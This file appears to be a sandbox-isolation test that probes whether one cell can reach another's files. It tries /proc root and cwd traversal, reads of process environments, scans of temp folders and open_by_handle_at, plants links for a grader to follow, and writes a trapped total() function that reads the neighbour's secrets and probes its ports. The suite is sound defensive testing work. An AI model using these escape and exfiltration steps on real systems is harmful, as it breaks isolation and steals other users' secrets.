"""Looks for the files of another live cell: by their paths, through every process, below every folder, by their inodes.

group: secrets
timeout: 60
claim: No file, variable or memory of the other cell can be read or written; nothing of it is in what this one leaves.
"""
import ctypes
import os
from kit import LIBC, T, attempt, leaks, say, write

OTHER = T["neighbour"]
FOLDER, PROCESS = OTHER["folder"], OTHER["pid"]
NAMES = [f"{part}/{name}" for part in ("work", "home") for name in ("secret.txt", "new.txt", "socket")]

def processes():
    return [name for name in os.listdir("/proc") if name.isdigit()]

# By its path, as it is and through whatever leads to another root.
for name in NAMES:
    for root in ("", "/work/../..", "/proc/self/root", "/proc/1/root", "/proc/1/cwd/..", f"/proc/{PROCESS}/root", "/dev/fd/0/..",
                 "/host", "/mnt", "/rootfs", "/var/lib/docker/overlay2"):
        attempt(f"read {root} {name}", leaks, f"{root}{FOLDER}/{name}")
for part in ("root/work", "root/home/agent", "root/tmp", "root/dev/shm", "cwd"):
    attempt(f"its {part}", leaks, f"/proc/{PROCESS}/{part}/secret.txt")
for part in ("environ", "cmdline", "maps", "mem", "fd/0", "fd/1", "mountinfo", "cgroup", "stack", "task"):
    attempt(f"its {part}", lambda part=part: os.stat(f"/proc/{PROCESS}/{part}") and True)
for name in NAMES:
    attempt(f"write {name}", lambda name=name: os.open(f"{FOLDER}/{name}", os.O_RDWR | os.O_CREAT))
attempt("its folder", os.listdir, FOLDER)
attempt("its folder's parent", lambda: [name for name in os.listdir(T["scratch"]) if name])
for name in ("secret.txt", "work/secret.txt"):
    attempt(f"beside mine: {name}", leaks, f"/work/../../{os.path.basename(FOLDER)}/{name}")

# What any process in view has open, and what its environment says.
for process in processes():
    attempt(f"{process}/environ", leaks, f"/proc/{process}/environ")
    for door in ("root", "cwd"):
        for name in NAMES:
            attempt(f"{process}/{door}", leaks, f"/proc/{process}/{door}{FOLDER}/{name}")

# Wherever temporary files lie.
seen = 0
for top in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/home", "/opt", "/mnt", "/srv", "/work", T["scratch"], os.path.dirname(T["scratch"])):
    for here, folders, files in os.walk(top):
        folders[:] = [f for f in folders if f not in ("node_modules", "site-packages")]
        for name in files:
            seen += 1
            path = os.path.join(here, name)
            if os.path.isfile(path) and os.path.getsize(path) < 1 << 20:
                attempt(path, leaks, path)
say(f"TRIED {seen} files")

# By number: what a container's root did where a capability was left (open_by_handle_at needs no path).
class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]

def by_handle():
    handle, mount = Handle(bytes=128), ctypes.c_int()
    if LIBC.name_to_handle_at(-100, b"/work", ctypes.byref(handle), ctypes.byref(mount), 0) != 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    anchor = os.open("/work", os.O_RDONLY)
    got = LIBC.open_by_handle_at(anchor, ctypes.byref(handle), os.O_RDONLY)
    if got < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    return os.listdir(got)

attempt("a folder by its handle", by_handle)

# Links that whoever collects or grades could follow, and a look from the grader's sandbox.
for number, name in enumerate(NAMES):
    attempt(f"hard link {name}", lambda name=name: os.link(f"{FOLDER}/{name}", f"/work/hard{os.path.basename(name)}") is None)
    attempt(f"link {name}", os.symlink, f"{FOLDER}/{name}", f"/work/stolen{number}.txt")
attempt("link", os.symlink, FOLDER, "/work/other")
attempt("link", os.symlink, f"../../{os.path.basename(FOLDER)}/work/secret.txt", "/work/beside.txt")
CODE = f'''import os, socket
def total(a, b):
    for root in ("", "/proc/1/root", "/proc/{PROCESS}/root", "/work/../.."):
        for name in {NAMES!r}:
            try:
                with open(f"{{root}}{FOLDER}/{{name}}", "rb") as file:
                    print("ESCAPED grader", root, name, file.read(200))
            except OSError:
                pass
    for port in ({OTHER["port"]}, {OTHER["door"]}):
        try:
            socket.create_connection(("127.0.0.1", port), 1)
            print("ESCAPED grader", port)
        except OSError:
            pass
    return a - b
'''
attempt("source", lambda: write("src/total.py", CODE) and None)
